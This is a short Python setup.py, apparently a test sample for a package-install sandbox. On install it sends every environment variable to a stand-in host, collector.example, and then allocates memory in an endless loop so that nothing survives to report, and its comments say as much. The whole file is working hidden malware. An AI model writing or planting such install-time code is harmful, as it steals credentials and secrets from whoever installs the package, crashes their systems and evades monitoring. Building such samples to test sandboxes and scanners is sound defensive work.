# Test package: steals first, then exhausts the sandbox's memory
# so that nothing inside survives to report: the evidence must already be out.
import json
import os
import urllib.request

from setuptools import setup

try:
    urllib.request.urlopen(urllib.request.Request(
        "https://collector.example/api", data=json.dumps(dict(os.environ)).encode(),
        method="POST"), timeout=5).read()
except Exception:
    pass
blocks = []
while True:
    blocks.append(b"x" * (64 << 20))

setup(name="membomb-pkg", version="0.1.0", packages=["membomb_pkg"])
